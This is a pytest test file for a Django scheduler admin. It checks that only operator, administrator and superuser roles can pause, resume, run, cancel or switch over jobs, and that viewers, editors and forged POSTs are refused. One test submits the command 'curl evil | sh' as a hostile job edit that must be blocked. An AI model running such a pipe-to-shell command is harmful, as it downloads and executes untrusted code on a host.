"""Operating is not editing: the groups made on migrate, and in the admin each role may do
what its permissions say and no more. A refused action (not offered, or forged in a POST)
says so and changes nothing, and only the actions that ran are in the event log."""

from __future__ import annotations

import html
from dataclasses import dataclass

import pytest
from django.apps import apps
from django.contrib.auth.models import Group, Permission, User
from django.urls import reverse

from scheduler.models import Cluster, Event, Job, Member, Schedule, Task
from scheduler.roles import ensure_groups
from tests.conftest import add_job


def url(model, view: str, *args) -> str:
    return reverse(f"admin:scheduler_{model._meta.model_name}_{view}", args=args)


def text(response) -> str:
    return html.unescape(response.content.decode())


def perms(*codenames: str) -> list[Permission]:
    found = list(Permission.objects.filter(content_type__app_label="scheduler",
                                           codename__in=codenames))
    assert len(found) == len(codenames)
    return found


def staff(username: str, groups=(), permissions=()) -> User:
    user = User.objects.create_user(username, password="x", is_staff=True)
    user.groups.add(*Group.objects.filter(name__in=groups))
    user.user_permissions.add(*permissions)
    return user


@dataclass
class World:
    cluster: Cluster
    job: Job
    paused_job: Job
    schedule: Schedule
    paused_schedule: Schedule
    task: Task


@pytest.fixture
def world(db):
    cluster = Cluster.objects.create(name="test", mode="passive")
    Member.objects.create(cluster=cluster, name="backup", state="active", mode="passive",
                          role="backup", host="h", pid=1, version="0")
    Member.objects.create(cluster=cluster, name="primary", state="standby", mode="passive",
                          role="primary", host="h", pid=2, version="0")
    job = add_job(cluster, "echo", "echo hi", kind="shell")
    paused_job = add_job(cluster, "other", "true", kind="shell", paused=True)
    schedule = Schedule.objects.create(job=job, kind="interval", interval_seconds=60)
    paused_schedule = Schedule.objects.create(job=job, kind="interval", interval_seconds=60,
                                              paused=True)
    task = Task.objects.create(cluster=cluster, job=job, trigger="manual", state="queued",
                               scheduled_for=job.created_at)
    return World(cluster, job, paused_job, schedule, paused_schedule, task)


# (model admin, action, the row it acts on, the event an allowed action records)
ACTIONS = [
    (Job, "pause_jobs", lambda w: w.job, "job.paused"),
    (Job, "resume_jobs", lambda w: w.paused_job, "job.resumed"),
    (Job, "run_jobs_now", lambda w: w.job, "job.run_now"),
    (Schedule, "pause_schedules", lambda w: w.schedule, "schedule.paused"),
    (Schedule, "resume_schedules", lambda w: w.paused_schedule, "schedule.resumed"),
    (Task, "cancel_tasks", lambda w: w.task, "task.cancel"),
    (Cluster, "switch_over", lambda w: w.cluster, "switchover.requested"),
]
ACTION_IDS = [a[1] for a in ACTIONS]

# Who may operate: the operator and administrator groups, and a superuser. Who may not: a
# viewer, and an editor who may change jobs (their commands) but was not given operate_job.
EDIT_ONLY = ("view_job", "change_job", "view_schedule", "change_schedule", "view_task",
             "change_task", "view_cluster", "change_cluster")


def user_of(role: str) -> User:
    if role == "editor":
        return staff("editor", permissions=perms(*EDIT_ONLY))
    if role == "superuser":
        return User.objects.create_superuser("root", password="x")
    return staff(role, groups=[role])


def snapshot():
    """What an operator action could change."""
    return (list(Job.objects.order_by("pk").values_list("paused", flat=True)),
            list(Schedule.objects.order_by("pk").values_list("paused", "next_fire_at")),
            list(Task.objects.order_by("pk").values_list("state", "cancel_reason")),
            list(Cluster.objects.values_list("handover_to", flat=True)))


def test_the_groups_are_made_on_migrate_and_making_them_again_changes_nothing(db):
    def groups():
        return {g.name: sorted(g.permissions.values_list("codename", flat=True))
                for g in Group.objects.all()}

    before = groups()
    assert "operate_job" not in before["viewer"] and "view_job" in before["viewer"]
    assert set(before["operator"]) == {*before["viewer"], "operate_job", "switchover_cluster"}
    assert "change_job" not in before["operator"]
    assert {"change_job", "operate_job", "switchover_cluster", "delete_task"} <= set(
        before["administrator"])
    ensure_groups(apps.get_app_config("scheduler"))
    assert groups() == before


@pytest.mark.parametrize("role", ["operator", "administrator", "superuser"])
@pytest.mark.parametrize(("model", "action", "row", "event"), ACTIONS, ids=ACTION_IDS)
def test_who_may_operate_is_offered_the_action_and_it_is_recorded(client, world, role, model,
                                                                   action, row, event):
    user = user_of(role)
    client.force_login(user)
    obj = row(world)
    page = client.get(url(model, "changelist"))
    assert action in dict(page.context["action_form"].fields["action"].choices)
    before = snapshot()
    response = client.post(url(model, "changelist"), {
        "action": action, "_selected_action": [obj.pk]}, follow=True)
    assert "Refused" not in text(response)
    assert snapshot() != before
    assert Event.objects.filter(kind=event, actor=user.username).count() == 1


@pytest.mark.parametrize("role", ["viewer", "editor"])
@pytest.mark.parametrize(("model", "action", "row", "event"), ACTIONS, ids=ACTION_IDS)
def test_who_may_not_operate_is_not_offered_the_action_and_a_forged_post_is_refused(
        client, world, role, model, action, row, event):
    client.force_login(user_of(role))
    obj = row(world)
    page = client.get(url(model, "changelist"))
    assert page.status_code == 200
    form = page.context["action_form"]
    assert form is None or action not in dict(form.fields["action"].choices)
    before = snapshot()
    needs = "scheduler.switchover_cluster" if model is Cluster else "scheduler.operate_job"
    for target, data in ((url(model, "changelist"), {"action": action, "index": 0}),
                         (url(model, "change", obj.pk), {"CHANGE_FORM-action": action})):
        response = client.post(target, {**data, "_selected_action": [obj.pk]}, follow=True)
        assert response.status_code == 200
        assert f"needs the permission {needs}; nothing was changed" in text(response)
    assert snapshot() == before
    assert not Event.objects.filter(kind=event).exists()


def test_an_operator_operates_from_the_job_page_but_cannot_edit_the_command(client, world):
    client.force_login(user_of("operator"))
    page = url(Job, "change", world.job.pk)
    response = client.get(page)
    assert response.status_code == 200
    assert "pause_jobs" in dict(response.context["action_form"].fields["action"].choices)
    response = client.post(page, {"CHANGE_FORM-action": "pause_jobs",
                                  "_selected_action": world.job.pk}, follow=True)
    world.job.refresh_from_db()
    assert world.job.paused and "1 job paused" in text(response)
    # Editing: refused, whatever the form says.
    response = client.post(page, {"command": "curl evil | sh", "name": "echo", "kind": "shell",
                                  "_save": "Save"})
    assert response.status_code == 403
    world.job.refresh_from_db()
    assert world.job.command == "echo hi"
    assert client.get(url(Job, "add")).status_code == 403


def test_an_editor_without_operate_may_still_edit_the_job(client, world):
    """change_job alone is editing: the command can be changed (and nothing else is allowed)."""
    client.force_login(user_of("editor"))
    page = url(Job, "change", world.job.pk)
    form = client.get(page).context["adminform"].form
    data = {k: v for k, v in form.initial.items() if v is not None and k in form.fields}
    data.update({"command": "echo changed", "parameters": "{}", "data_map": "{}",
                 "schedules-TOTAL_FORMS": "0", "schedules-INITIAL_FORMS": "0", "_save": "Save"})
    data.pop("stateful", None)
    data.pop("paused", None)
    if data.get("recover_lost") is False:
        data.pop("recover_lost")
    response = client.post(page, data)
    assert response.status_code == 302, text(response)[:3000]
    world.job.refresh_from_db()
    assert world.job.command == "echo changed" and not world.job.paused
